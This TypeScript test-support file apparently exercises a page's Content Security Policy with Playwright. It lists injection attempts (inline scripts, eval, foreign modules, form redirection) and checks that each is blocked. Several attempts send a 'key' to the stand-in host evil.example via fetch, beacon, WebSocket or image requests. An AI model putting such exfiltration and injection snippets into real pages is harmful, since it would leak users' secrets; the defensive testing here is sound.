import type { Frame } from "playwright-core";

/** What injected code might try in the link page: run there. Each says whether it got anywhere. */
export interface Attempt {
  /** The directives that may be named for it. */
  directive: RegExp;
  /** Runs in the page. `true`: it worked. */
  run: (sealer: string) => boolean | Promise<boolean>;
  /** Tried on the page by its own address: in a frame the host page's policy stops it too, and takes the frame away. */
  alone?: true;
}

export const attempts: Record<string, Attempt> = {
  "an inline script": {
    directive: /^(script-src-elem|require-trusted-types-for)$/,
    run: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.gotIn = 1"));
      document.body.append(script);
      return "gotIn" in window;
    },
  },
  "an inline handler": {
    directive: /^(script-src-attr|require-trusted-types-for)$/,
    run: () => {
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.gotIn = 1");
      document.body.append(button);
      button.click();
      button.remove();
      return "gotIn" in window;
    },
  },
  eval: { directive: /^(script-src|require-trusted-types-for)$/, run: () => window.eval("1") === 1 },
  "new Function": {
    directive: /^(script-src|require-trusted-types-for)$/,
    // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call
    run: () => new Function("return 1")() === 1,
  },
  "a timer of text": {
    directive: /^(script-src|require-trusted-types-for)$/,
    run: async () => {
      // eslint-disable-next-line @typescript-eslint/no-implied-eval
      setTimeout("window.gotIn = 1");
      await new Promise((done) => setTimeout(done)); // Behind it, as both are due at once.
      return "gotIn" in window;
    },
  },
  innerHTML: {
    directive: /^require-trusted-types-for$/,
    run: () => {
      document.createElement("div").innerHTML = "<b>x</b>";
      return true;
    },
  },
  "script.src": {
    directive: /^require-trusted-types-for$/,
    run: () => {
      document.createElement("script").src = "https://evil.example/x.js";
      return true;
    },
  },
  "a policy for Trusted Types": {
    directive: /^trusted-types$/,
    run: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): object };
      };
      return Boolean(trustedTypes.createPolicy("evil", {}));
    },
  },
  "a foreign module": {
    directive: /^script-src-elem$/,
    run: () => import(new URL("https://evil.example/x.js").href).then(() => true),
  },
  "a foreign fetch": { directive: /^connect-src$/, run: () => fetch("https://evil.example/?key").then(() => true) },
  "a fetch to the host page": {
    directive: /^connect-src$/,
    run: () => fetch(location.ancestorOrigins[0] ?? "").then(() => true),
  },
  "a beacon": {
    directive: /^connect-src$/,
    run: () => navigator.sendBeacon("https://evil.example/", "key") && false,
  },
  "a web socket": {
    directive: /^connect-src$/,
    run: () =>
      new Promise((done) => {
        const socket = new WebSocket("wss://evil.example/");
        socket.onopen = () => done(true);
        socket.onerror = () => done(false);
      }),
  },
  "a foreign frame": {
    directive: /^frame-src$/,
    run: () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
      return false;
    },
  },
  "a foreign image": {
    directive: /^img-src$/,
    run: () =>
      new Promise((done) => {
        const image = new Image();
        image.onload = () => done(true);
        image.onerror = () => done(false);
        image.src = "https://evil.example/?key";
      }),
  },
  "a style of its own": {
    directive: /^style-src-elem$/,
    run: () => {
      const style = document.createElement("style");
      style.append("body { --got-in: 1 }");
      document.head.append(style);
      return getComputedStyle(document.body).getPropertyValue("--got-in") !== "";
    },
  },
  "a worker": {
    directive: /^(worker-src|require-trusted-types-for)$/,
    run: () => Boolean(new Worker("data:text/javascript,1")),
  },
  "a form that goes elsewhere": {
    alone: true,
    directive: /^form-action$/,
    run: () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
      form.remove();
      return false;
    },
  },
  "another base": {
    directive: /^base-uri$/,
    run: () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
      return document.baseURI.includes("evil");
    },
  },
  "a script of its own origin without integrity": {
    directive: /^integrity-policy$/,
    run: (sealer) => import(sealer).then(() => true),
  },
};

/** Whether an attempt gets anywhere. In a task of its own: what the debugger itself runs may do more than the page's code. */
export const works = (frame: Frame, { run }: Attempt, sealer = ""): Promise<boolean> =>
  frame.evaluate(`new Promise((done) => setTimeout(() => {
    Promise.resolve(${JSON.stringify(sealer)}).then(${run.toString()}).then(done, () => done(false));
  }))`);
